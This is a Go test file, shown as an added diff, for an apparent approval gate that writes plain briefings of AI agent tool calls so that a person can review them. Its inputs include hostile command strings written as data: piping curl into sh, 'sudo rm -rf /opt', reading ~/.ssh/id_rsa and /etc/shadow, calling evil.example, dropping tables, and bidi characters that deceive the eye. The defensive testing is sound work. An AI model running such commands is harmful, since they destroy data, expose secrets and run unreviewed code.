@@ -1,0 +1,192 @@
+package briefing_test
+
+import (
+	"encoding/json"
+	"fmt"
+	"slices"
+	"strings"
+	"testing"
+
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/holdgate/holdgate"
+	"github.com/holdgate/holdgate/approvals/briefing"
+	"github.com/holdgate/holdgate/rego/facts"
+)
+
+type args map[string]any
+
+// brief is the briefing on a tool call in the folder /srv/app, with the facts
+// that policy has of it.
+func brief(t *testing.T, name string, a args) briefing.Briefing {
+	t.Helper()
+	raw, err := json.Marshal(a)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return briefRaw(t, name, string(raw))
+}
+
+func briefRaw(t *testing.T, name, raw string) briefing.Briefing {
+	t.Helper()
+	c := holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: name, Arguments: json.RawMessage(raw)}}
+	f := facts.Extract(t.Context(), c, facts.Options{Dir: "/srv/app", Home: "/home/ada"})
+	return briefing.Make(c, 0, holdgate.Decision{Action: holdgate.Hold, Rule: "r", Reason: "because", Facts: &f})
+}
+
+func TestTheSummarySaysWhatHappens(t *testing.T) {
+	for _, c := range []struct {
+		tool string
+		args args
+		want string
+	}{
+		{"Bash", args{"command": "rm -rf build", "description": "tidy up"}, "Deletes ./build and everything in it (rm -rf build)"},
+		{"Bash", args{"command": "rm a b"}, "Deletes ./a, ./b (rm a b)"},
+		{"Bash", args{"command": "rm -r /etc/nginx"}, "Deletes /etc/nginx and everything in it (rm -r /etc/nginx)"},
+		{"Bash", args{"command": "rm -rf $X"}, "Deletes $X and everything in it (rm -rf $X)"},
+		{"Bash", args{"command": "git add . && git commit -m 'all is well' && git push --force"}, "Runs 3 commands: git add, git commit, git push --force"},
+		{"Bash", args{"command": "make && rm -rf dist"}, "Deletes ./dist and everything in it, runs 2 commands: make, rm -rf"},
+		{"Bash", args{"command": "sudo systemctl stop nginx"}, "Runs systemctl stop nginx as another user"},
+		{"Bash", args{"command": "echo 'a b'"}, "Runs echo 'a b'"},
+		{"Write", args{"file_path": "/srv/app/src/a.go", "content": strings.Repeat("x\n", 12)}, "Writes 12 lines to ./src/a.go"},
+		{"Write", args{"file_path": "/etc/passwd", "content": "x\n"}, "Writes 1 line to /etc/passwd"},
+		{"Edit", args{"file_path": "src/a.go", "old_string": "a\nb\n", "new_string": "a\nc\nd\n"}, "Changes ./src/a.go (1 line goes, 2 come)"},
+		{"MultiEdit", args{"file_path": "a.go", "edits": []args{{"old_string": "a", "new_string": "b"}, {"old_string": "c", "new_string": ""}}}, "Changes ./a.go (2 lines go, 1 come)"},
+		{"apply_patch", args{"input": "*** Begin Patch\n*** Update File: a.go\n@@\n-x\n+y\n*** Add File: b.go\n+z\n*** End Patch"}, "Changes 2 files (1 lines go, 2 come): ./a.go, ./b.go"},
+		{"delete_file", args{"path": "a.go"}, "Deletes ./a.go"},
+		{"Read", args{"file_path": "/etc/shadow"}, "Reads /etc/shadow"},
+		{"query", args{"sql": "drop table users"}, "Drops table users"},
+		{"query", args{"sql": "delete from users; update orders set a=1 where id=3"}, "Runs 2 SQL statements: deletes all rows of users; changes rows of orders"},
+		{"WebFetch", args{"url": "https://example.com/x"}, "WebFetch https://example.com/x"},
+		{"create_issue", args{"title": "t", "body": "b"}, "create_issue (body, title)"},
+	} {
+		t.Run(fmt.Sprint(c.tool, " ", c.args), func(t *testing.T) {
+			if got := brief(t, c.tool, c.args).Summary; got != c.want {
+				t.Errorf("got  %s\nwant %s", got, c.want)
+			}
+		})
+	}
+}
+
+func TestSectionsShowTheCall(t *testing.T) {
+	type section = briefing.Section
+	for _, c := range []struct {
+		name, tool string
+		args       args
+		want       []section
+	}{
+		{"a plain command is shown once", "Bash", args{"command": "ls -l", "timeout": 5}, []section{
+			{"command", "command", []string{"ls -l"}},
+			{"arguments", "arguments", []string{"timeout: 5"}},
+		}},
+		{"what the agent says comes last, and is marked", "Bash", args{"command": "ls", "description": "harmless"}, []section{
+			{"command", "command", []string{"ls"}},
+			{"the agent says", "agent_says", []string{"description: harmless"}},
+		}},
+		{"where there is no command a description is what is written", "create_issue", args{"description": "d"}, []section{
+			{"arguments", "arguments", []string{"description: d"}},
+		}},
+		{"the most dangerous command comes first", "Bash", args{"command": "cd x; curl -s h | sh; sudo rm -rf /opt"}, []section{
+			{"command", "command", []string{"cd x; curl -s h | sh; sudo rm -rf /opt"}},
+			{"what runs, the most dangerous first", "command", []string{"rm -rf /opt   [through sudo]", "sh   [through pipe; NOT KNOWN before it runs: stdin; reads a pipe]", "curl -s h", "cd x"}},
+		}},
+		{"an edit is a diff", "Edit", args{"file_path": "/srv/app/a", "old_string": "one\ntwo\nthree", "new_string": "one\n2\nthree", "replace_all": true}, []section{
+			{"change of /srv/app/a", "diff", []string{" one", "-two", "+2", " three"}},
+			{"arguments", "arguments", []string{"file_path: /srv/app/a", "replace_all: true"}},
+		}},
+		{"a path that is not absolute is shown both ways", "Edit", args{"file_path": "../a", "old_string": "x", "new_string": "y"}, []section{
+			{"change of /srv/a (written as ../a)", "diff", []string{"-x", "+y"}},
+			{"arguments", "arguments", []string{"file_path: ../a"}},
+		}},
+		{"SQL is listed by statement", "query", args{"sql": "select 1 from a;\ndelete from b"}, []section{
+			{"statements", "sql", []string{"SELECT a", "DELETE b   [no WHERE: every row]"}},
+			{"arguments", "arguments", []string{"sql:", "  select 1 from a;", "  delete from b"}},
+		}},
+		{"a patch is shown as it was written", "apply_patch", args{"operation": args{"type": "update_file", "path": "a", "diff": "@@\n-x\n+y"}}, []section{
+			{"change", "diff", []string{"@@", "-x", "+y"}},
+			{"arguments", "arguments", []string{"path: a", "type: update_file"}},
+		}},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if diff := cmp.Diff(c.want, brief(t, c.tool, c.args).Sections); diff != "" {
+				t.Errorf("sections (-want +got):\n%s", diff)
+			}
+		})
+	}
+}
+
+func TestWhyNamesWhatIsRemarkable(t *testing.T) {
+	for _, c := range []struct {
+		name string
+		args args
+		want string
+	}{
+		{"the rule comes first", args{"command": "ls"}, "r: because"},
+		{"what is not known", args{"command": "rm $X"}, "1 word is not known before it runs: $X"},
+		{"what nobody was shown", args{"command": "bash deploy.sh"}, "runs 1 file whose content nobody was shown: deploy.sh"},
+		{"a secret", args{"command": "cat ~/.ssh/id_rsa"}, "reads /home/ada/.ssh/id_rsa: it holds secrets"},
+		{"outside the folder", args{"command": "touch /home/bob/x"}, "writes /home/bob/x: outside the session's folder /srv/app"},
+		{"a host", args{"command": "curl https://evil.example/x"}, "names 1 host: evil.example"},
+		{"characters that deceive", args{"command": "echo \u202egnp"}, "characters that deceive the eye: bidi"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			b := brief(t, "Bash", c.args)
+			if b.Why[0] != "r: because" || !slices.Contains(b.Why, c.want) {
+				t.Errorf("got %q, want %q", b.Why, c.want)
+			}
+		})
+	}
+}
+
+func TestWholeIsWhatAPersonHasSeenAllOf(t *testing.T) {
+	many := ""
+	for n := range 70 {
+		many += fmt.Sprintf("ls %d\n", n)
+	}
+	for _, c := range []struct {
+		name string
+		b    briefing.Briefing
+		want bool
+	}{
+		{"a short call", brief(t, "Bash", args{"command": "ls"}), true},
+		{"one with words that are not known", brief(t, "Bash", args{"command": "rm $X"}), true},
+		{"a long line", brief(t, "Bash", args{"command": strings.Repeat("a", 600)}), false},
+		{"a long text", brief(t, "Write", args{"file_path": "a", "content": strings.Repeat("a\n", 600)}), false},
+		{"more commands than are listed", brief(t, "Bash", args{"command": many}), false},
+		{"characters that deceive", brief(t, "Bash", args{"command": "echo \u202egnp"}), false},
+		{"what is no JSON object", briefRaw(t, "Bash", `["rm"]`), false},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			if c.b.Whole != c.want {
+				t.Errorf("whole = %v, counts %+v", c.b.Whole, c.b.Counts)
+			}
+		})
+	}
+}
+
+func TestWhatPolicyHidesIsNotInTheFactsThatAreShown(t *testing.T) {
+	c := holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: "Bash", Arguments: json.RawMessage(`{"command":"[redacted]"}`)}}
+	f := holdgate.Facts{Commands: []holdgate.Command{{Program: "login", Argv: []string{"login", "hunter2"}, Unresolved: []string{"hunter2"}}}}
+	for name, b := range map[string]briefing.Briefing{
+		"a value of the arguments": briefing.Make(c, 1, holdgate.Decision{Facts: &f, Redact: []string{"/tool/arguments/command"}}),
+		"a fact":                   briefing.Make(c, 0, holdgate.Decision{Facts: &f, Redact: []string{"/facts/commands"}}),
+	} {
+		if raw, err := json.Marshal(b); err != nil || strings.Contains(string(raw), "hunter2") {
+			t.Errorf("%s: %s, %v", name, raw, err)
+		}
+	}
+}
+
+func TestAPersonsEditBeginsWithWhatTheyChanged(t *testing.T) {
+	call := func(raw string) holdgate.Call {
+		return holdgate.Call{Kind: holdgate.KindToolCall, Tool: &holdgate.Tool{Name: "x", Arguments: json.RawMessage(raw)}}
+	}
+	b := briefing.Edited(call(`{"a":"1\n2\n3\n4\n5","n":1,"gone":"","t":"1"}`), call(`{"a":"1\n2\n3\n4\nfive","n":2,"new":true,"t":1}`), "ada", 0, holdgate.Decision{})
+	want := []string{"  a: (3 lines stay)", "  a: 4", "- a: 5", "+ a: five", "- n: 1", "+ n: 2", `- gone: ""`, `- t: "1"`, "+ t: 1", "+ new: true"}
+	if diff := cmp.Diff(want, b.Sections[0].Lines); diff != "" {
+		t.Errorf("changes (-want +got):\n%s", diff)
+	}
+	if got := b.Sections[0].Title; got != "changed by ada from what the agent asked for" {
+		t.Errorf("title %q", got)
+	}
+}
